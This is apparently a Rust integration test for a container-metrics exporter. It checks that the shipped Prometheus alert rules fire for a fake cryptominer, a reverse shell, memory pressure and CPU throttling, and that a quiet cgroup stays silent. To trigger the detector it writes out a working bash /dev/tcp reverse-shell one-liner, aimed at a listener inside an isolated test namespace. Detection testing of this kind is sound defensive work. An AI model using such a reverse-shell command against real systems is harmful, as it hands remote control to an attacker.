//! The shipped rules end to end: a real Prometheus (scrape and evaluation every second) loads
//! a test-only copy of deploy/prometheus/rules.yml, scrapes the exporter and sends to a real
//! Alertmanager, whose webhook receiver is a small HTTP server here. The copy differs from the
//! shipped file only in `for: 15m`, shortened to a few seconds so the health alerts fire within
//! the test; the expressions, windows, labels and annotations are the shipped ones (the finding
//! alerts have no `for` at all). deploy/prometheus/rules.yml itself is never edited.
//!
//! In one Prometheus/Alertmanager setup, at the same time, each alert reaches the webhook
//! carrying the `id` label (and description) of the test cgroup that caused it:
//! - CryptominerSuspected: a process named `xmrig`;
//! - ReverseShellSuspected: a shell whose stdin/stdout are a TCP connection it opened, to a
//!   listener in a second network namespace (a veth pair only between the test's namespaces);
//! - ContainerMemoryNearLimit: `hold_memory` keeping 60 MiB in a cgroup limited to 64 MiB;
//! - ContainerCpuThrottlingHigh: a busy loop under a 10% CFS quota.
//!
//! A quiet cgroup beside them (a sleeping process) brings no alert of any kind. These cgroups
//! have no runtime naming them, so `name`/`image` are empty; ContainerPolicyViolation, which
//! needs a runtime-named container with an image (Docker), is not covered here.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tests::{Exporter, NetnsPair, TestCgroup, SETUP};

const BIN: &str = env!("CARGO_BIN_EXE_exporter");

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn spawn(program: &str, args: &[String]) -> Killed {
    Killed(
        Command::new(program)
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("{program} not runnable ({e}); install it with `{SETUP}`")),
    )
}

/// A webhook receiver: every POST body, as text.
fn webhook() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let got = bodies.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut len = 0usize;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                let l = line.trim_end().to_ascii_lowercase();
                if l.is_empty() {
                    break;
                }
                if let Some(v) = l.strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
            }
            let mut body = vec![0; len];
            let _ = reader.read_exact(&mut body);
            got.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&body).into_owned());
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, bodies)
}

/// Waits until `path` exists (a test workload's ready file).
fn wait_for(path: &std::path::Path, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !path.exists() {
        assert!(Instant::now() < deadline, "{what} did not get ready");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Every alert received so far, as (alertname, labels, annotations).
fn received(bodies: &Mutex<Vec<String>>) -> Vec<serde_json::Value> {
    let mut out = Vec::new();
    for b in bodies.lock().unwrap().iter() {
        let v: serde_json::Value =
            serde_json::from_str(b).unwrap_or_else(|e| panic!("webhook JSON ({e}): {b}"));
        out.extend(v["alerts"].as_array().cloned().unwrap_or_default());
    }
    out
}

/// The shipped rules with `for: 15m` shortened to 3 s, for this test only.
fn test_rules(dir: &std::path::Path) -> std::path::PathBuf {
    let shipped = tests::repo_root().join("deploy/prometheus/rules.yml");
    let text = std::fs::read_to_string(&shipped).unwrap();
    assert!(
        text.contains("for: 15m"),
        "rules.yml changed: no `for: 15m` left to shorten"
    );
    let copy = dir.join("rules.yml");
    std::fs::write(&copy, text.replace("for: 15m", "for: 3s")).unwrap();
    copy
}

#[test]
fn each_alert_reaches_the_webhook_with_its_container_and_a_quiet_one_brings_none() {
    tests::require_root();
    let dir = tempfile::tempdir().unwrap();
    let xmrig = dir.path().join("xmrig");
    std::fs::copy("/bin/sleep", &xmrig).unwrap();
    let ns = NetnsPair::create();

    let mut quiet = TestCgroup::new("ccol-alert-quiet");
    quiet.spawn(Command::new("/bin/sleep").arg("600"));
    // Made now, so the exporter follows them; the miner and the shell start once Prometheus
    // has seen them quiet.
    let mut miner = TestCgroup::new("ccol-alert-miner");
    let mut shell = TestCgroup::new("ccol-alert-rsh");
    // 60 MiB held under a 64 MiB limit: a working set of over 90% of it.
    let mut memory = TestCgroup::new("ccol-alert-mem");
    memory.set(
        "memory",
        "memory.limit_in_bytes",
        &(64u64 << 20).to_string(),
    );
    memory.spawn(Command::new(env!("CARGO_BIN_EXE_hold_memory")).arg("60"));
    // A busy loop under a tenth of a CPU: throttled in nearly every period.
    let mut cpu = TestCgroup::new("ccol-alert-cpu");
    cpu.set("cpu", "cpu.cfs_period_us", "100000");
    cpu.set("cpu", "cpu.cfs_quota_us", "10000");
    cpu.spawn(Command::new("sh").args(["-c", "while :; do :; done"]));

    let exp = Exporter::start(
        BIN,
        &[
            "--housekeeping.interval",
            "1s",
            "--containers.process-interval",
            "1s",
            "--cgroups.include",
            &quiet.id,
            "--cgroups.include",
            &miner.id,
            "--cgroups.include",
            &shell.id,
            "--cgroups.include",
            &memory.id,
            "--cgroups.include",
            &cpu.id,
        ],
    );

    let (hook, bodies) = webhook();
    let am_port = tests::servers::free_port();
    let am_cfg = dir.path().join("alertmanager.yml");
    std::fs::write(
        &am_cfg,
        format!(
            "route:\n  receiver: hook\n  group_by: ['...']\n  group_wait: 1s\n  group_interval: 1s\n  repeat_interval: 1h\nreceivers:\n  - name: hook\n    webhook_configs:\n      - url: http://127.0.0.1:{hook}/\n        send_resolved: false\n"
        ),
    )
    .unwrap();
    let _am = spawn(
        "prometheus-alertmanager",
        &[
            format!("--config.file={}", am_cfg.display()),
            format!("--storage.path={}", dir.path().join("am").display()),
            format!("--web.listen-address=127.0.0.1:{am_port}"),
            "--cluster.listen-address=".to_string(),
        ],
    );
    let rules = test_rules(dir.path());
    let prom_cfg = dir.path().join("prometheus.yml");
    std::fs::write(
        &prom_cfg,
        format!(
            "global:\n  scrape_interval: 1s\n  evaluation_interval: 1s\nrule_files: ['{}']\nalerting:\n  alertmanagers:\n    - static_configs:\n        - targets: ['127.0.0.1:{am_port}']\nscrape_configs:\n  - job_name: collector-exporter\n    static_configs:\n      - targets: ['{}']\n",
            rules.display(),
            exp.addr
        ),
    )
    .unwrap();
    let prom_port = tests::servers::free_port();
    let _prom = spawn(
        "prometheus",
        &[
            format!("--config.file={}", prom_cfg.display()),
            format!("--storage.tsdb.path={}", dir.path().join("data").display()),
            format!("--web.listen-address=127.0.0.1:{prom_port}"),
        ],
    );

    // The attacker's listener, in the other namespace of the pair (no cgroup of interest).
    let ready = dir.path().join("listener-ready");
    let listen = format!("{}:8443", ns.b_addr);
    let mut listener = NetnsPair::exec(
        &ns.b,
        env!("CARGO_BIN_EXE_tcp_peer"),
        &["listen", &listen, ready.to_str().unwrap()],
    );
    let _listener = Killed(
        listener
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("tcp_peer"),
    );
    wait_for(&ready, "the listener");

    // Let Prometheus see the cgroups quiet for a few scrapes, then start the miner and the
    // reverse shell.
    std::thread::sleep(Duration::from_secs(8));
    miner.spawn(Command::new(&xmrig).arg("600"));
    let script = format!("exec 3<>/dev/tcp/{}/8443; exec sh <&3 >&3 2>&3", ns.b_addr);
    shell.spawn(&mut NetnsPair::exec(&ns.a, "/bin/bash", &["-c", &script]));

    let expected = [
        ("CryptominerSuspected", &miner.id),
        ("ReverseShellSuspected", &shell.id),
        ("ContainerMemoryNearLimit", &memory.id),
        ("ContainerCpuThrottlingHigh", &cpu.id),
    ];
    let deadline = Instant::now() + Duration::from_secs(60);
    let alerts = loop {
        let alerts = received(&bodies);
        let missing: Vec<_> = expected
            .iter()
            .filter(|(name, id)| {
                !alerts
                    .iter()
                    .any(|a| a["labels"]["alertname"] == *name && a["labels"]["id"] == id.as_str())
            })
            .collect();
        if missing.is_empty() {
            break alerts;
        }
        assert!(
            Instant::now() < deadline,
            "not at the webhook within 60 s: {missing:?}; got: {alerts:#?}"
        );
        std::thread::sleep(Duration::from_millis(500));
    };
    for (name, id) in expected {
        let alert = alerts
            .iter()
            .find(|a| a["labels"]["alertname"] == name && a["labels"]["id"] == id.as_str())
            .unwrap();
        assert_eq!(alert["labels"]["job"], "collector-exporter", "{alert}");
        assert!(alert["labels"]["severity"].is_string(), "{alert}");
        let desc = alert["annotations"]["description"].as_str().unwrap();
        assert!(desc.contains(id.as_str()), "{name}: {desc}");
        assert!(alert["annotations"]["runbook"].is_string(), "{alert}");
    }
    let by_name = |name: &str| {
        alerts
            .iter()
            .find(|a| a["labels"]["alertname"] == name)
            .unwrap()
            .clone()
    };
    let miner_alert = by_name("CryptominerSuspected");
    assert_eq!(miner_alert["labels"]["kind"], "miner_process");
    assert_eq!(miner_alert["labels"]["severity"], "critical");
    let shell_alert = by_name("ReverseShellSuspected");
    assert_eq!(shell_alert["labels"]["kind"], "reverse_shell");
    assert_eq!(shell_alert["labels"]["severity"], "critical");
    assert_eq!(
        by_name("ContainerMemoryNearLimit")["labels"]["severity"],
        "warning"
    );
    assert_eq!(
        by_name("ContainerCpuThrottlingHigh")["labels"]["severity"],
        "info"
    );

    // A few more evaluations: nothing at all about the quiet cgroup.
    std::thread::sleep(Duration::from_secs(5));
    for a in received(&bodies) {
        assert_ne!(
            a["labels"]["id"],
            quiet.id.as_str(),
            "an alert about the quiet cgroup: {a}"
        );
    }
    for b in bodies.lock().unwrap().iter() {
        assert!(
            !b.contains(quiet.id.as_str()),
            "an alert naming the quiet cgroup: {b}"
        );
    }
}
